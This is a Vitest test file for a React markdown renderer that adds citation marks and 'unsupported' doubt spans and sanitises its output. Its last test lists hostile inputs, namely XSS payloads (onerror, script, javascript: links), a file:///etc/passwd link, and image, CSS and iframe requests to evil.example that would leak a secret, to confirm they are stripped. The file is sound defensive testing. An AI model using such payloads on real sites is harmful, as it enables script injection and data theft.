import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import rehypeSanitize from 'rehype-sanitize';
import remarkGfm from 'remark-gfm';
import { expect, test } from 'vitest';
import { citationMarks, type Doubt, doubtMarks } from './marks.ts';
import { allowed, quoteForeign } from './sanitiser.ts';

/** The tree as it comes out of the plugins, before components draw it. */
function html(text: string, doubts: readonly Doubt[] = []): string {
  return renderToStaticMarkup(
    <ReactMarkdown
      remarkPlugins={[remarkGfm]}
      remarkRehypeOptions={{ allowDangerousHtml: true }}
      rehypePlugins={[quoteForeign, [rehypeSanitize, allowed], citationMarks, [doubtMarks, doubts]]}
    >
      {text}
    </ReactMarkdown>,
  );
}

test('marks become elements at their place, but not in code and links', () => {
  expect(html('It was lit. [1][2] Twice [3, 4].')).toBe(
    '<p>It was lit.<sup data-n="1"></sup><sup data-n="2"></sup> Twice<sup data-n="3"></sup><sup data-n="4"></sup>.</p>',
  );
  expect(html('`a[1]`')).toBe('<p><code>a[1]</code></p>');
});

test('sentences without support are marked, over emphasis and marks within them', () => {
  const doubts: Doubt[] = [{ text: 'The **rent** is 900 crowns. [1]', support: 'unsupported' }];
  expect(html('It is old. The **rent** is 900 crowns. [1] It is paid monthly.', doubts)).toBe(
    '<p>It is old. <span data-support="unsupported">The </span><strong><span data-support="unsupported">rent</span></strong><span data-support="unsupported"> is 900 crowns.</span><sup data-n="1"></sup> It is paid monthly.</p>',
  );
  expect(html('- one\n- The **rent** is 900 crowns.', doubts)).toContain('<li>one</li>');
});

test('nothing comes through that could fetch, run or hide', () => {
  const hostile = [
    '![alt](http://evil.example/p.png?q=secret)',
    '<img src=x onerror=alert(1)><script>alert(1)</script>',
    '[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](file:///etc/passwd)',
    '<a href="http://evil.example" style="position:fixed">x</a>',
    '[e]: http://evil.example "t"',
    '![ref][e]',
    '<style>*{background:url(http://evil.example)}</style>',
    '<iframe src="http://evil.example"></iframe>',
  ].join('\n\n');
  const drawn = html(hostile);
  expect(drawn.match(/<(?!\/?p>|\/?a\b)[^>]*>/g)).toBe(null);
  expect(drawn.match(/<a [^>]*>/g)).toBe(null);
  expect(drawn).toContain('alt (http://evil.example/p.png?q=secret)');
  expect(drawn).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
});
